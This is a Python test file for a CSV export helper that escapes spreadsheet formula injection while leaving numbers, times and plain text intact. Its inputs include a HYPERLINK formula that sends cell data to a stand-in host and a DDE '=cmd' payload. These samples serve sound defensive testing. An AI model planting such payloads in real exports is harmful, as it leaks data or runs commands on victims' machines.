"""CSV downloads: text a spreadsheet would run as a formula is escaped; numbers, times and plain text come back as
they went in."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from pipeline.render.csv_export import safe_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
FORMULAS = [HYPERLINK, "@SUM(1+1)", "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


def cells(text: str) -> list[list[str]]:
    """The rows of CSV text as a spreadsheet's CSV import splits them."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "at", "plus", "minus", "tab", "carriage return"])
def test_each_formula_start_is_written_as_text(formula):
    rows = cells(safe_csv(pd.DataFrame({"link": [formula, "plain"]})))
    assert rows == [["link"], ["'" + formula], ["plain"]]


@pytest.mark.parametrize("dtype", [object, "str", "category"])
def test_text_of_every_pandas_text_dtype_is_escaped(dtype):
    frame = pd.DataFrame({"label": pd.Series(["-2+3", "ok", None], dtype=dtype)})
    assert cells(safe_csv(frame))[1:] == [["'-2+3"], ["ok"], [""]]


def test_numbers_booleans_and_times_stay_numbers():
    frame = pd.DataFrame(
        {
            "float": [-2.5, 3.0],
            "int": [-2, 3],
            "nullable": pd.array([-1, None], dtype="Int64"),
            "bool": [True, False],
            "when": pd.to_datetime(["2024-01-02", "2024-03-04"]).tz_localize("UTC"),
            "took": pd.to_timedelta([-1, 2], unit="s"),
            "mixed": [-7, "-7"],
        }
    )
    rows = cells(safe_csv(frame))
    assert rows[1] == ["-2.5", "-2", "-1", "True", "2024-01-02 00:00:00+00:00", "-1 days +23:59:59", "-7"]
    assert rows[2][:4] == ["3.0", "3", "", "False"] and rows[2][-1] == "'-7", "text in a mixed column is escaped"


def test_column_names_are_escaped():
    frame = pd.DataFrame([[1, 2, 3]], columns=["=cmd|' /C calc'!A0", "-total", "total"])
    assert cells(safe_csv(frame))[0] == ["'=cmd|' /C calc'!A0", "'-total", "total"]


def test_a_carriage_return_inside_a_value_cannot_start_a_row():
    text = safe_csv(pd.DataFrame({"note": [f"x\r{HYPERLINK}", "y\n@SUM(1)"]}))
    assert f'"x\r{HYPERLINK.replace(chr(34), 2 * chr(34))}"' in text and '"y\n@SUM(1)"' in text
    assert cells(text) == [["note"], [f"x\r{HYPERLINK}"], ["y\n@SUM(1)"]]


def test_safe_values_round_trip():
    frame = pd.DataFrame(
        {
            "name": ["Zürich", 'say "hi", then go', "multi\nline", "a=b", "1+1"],
            "value": [1.5, -2.25, np.nan, 0.0, 1e-9],
            "count": [1, -2, 3, 4, 5],
        }
    )
    back = pd.read_csv(io.StringIO(safe_csv(frame)), dtype={"name": object})
    pd.testing.assert_frame_equal(back, frame, check_dtype=False)


def test_the_frame_given_is_left_as_it_was():
    frame = pd.DataFrame({"link": [HYPERLINK], "=x": [1]})
    safe_csv(frame)
    assert frame["link"].tolist() == [HYPERLINK] and list(frame.columns) == ["link", "=x"]
